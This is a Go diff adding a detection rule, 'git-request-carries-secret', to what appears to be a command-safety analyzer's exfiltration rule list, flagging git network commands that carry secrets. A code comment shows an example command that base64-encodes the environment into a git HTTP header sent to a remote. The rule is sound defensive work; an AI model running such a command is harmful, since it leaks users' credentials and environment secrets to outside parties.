@@ -361,6 +361,24 @@ var exfiltrationRules = []*rule{
 			}
 			return false, ""
 		}},
+	{ID: "git-request-carries-secret", Level: LevelCritical, Category: CategoryExfiltration, Description: "git talking to a remote with the environment or credentials put into its request (a header, the URL)",
+		Suggestions: []string{"Let git's credential helper sign the request in", "Never put the environment into a header"},
+		names:       names("git"),
+		match: func(a *analysis, c *cmd) (bool, string) {
+			sub, _ := gitSub(c)
+			switch sub {
+			case "ls-remote", "fetch", "pull", "push", "clone", "remote":
+			default:
+				return false, ""
+			}
+			for _, f := range c.substs {
+				// git -c http.extraHeader="X: $(env | base64)" ls-remote URL
+				if f.kind == flowSecret && !onlyToIssuer(f.what, c) {
+					return true, f.what
+				}
+			}
+			return false, ""
+		}},
 	{ID: "exfil-subst", Level: LevelCritical, Category: CategoryExfiltration, Description: "putting credentials or the environment into a network request",
 		Suggestions: suggExfil, names: netSinks,
 		match: func(a *analysis, c *cmd) (bool, string) {
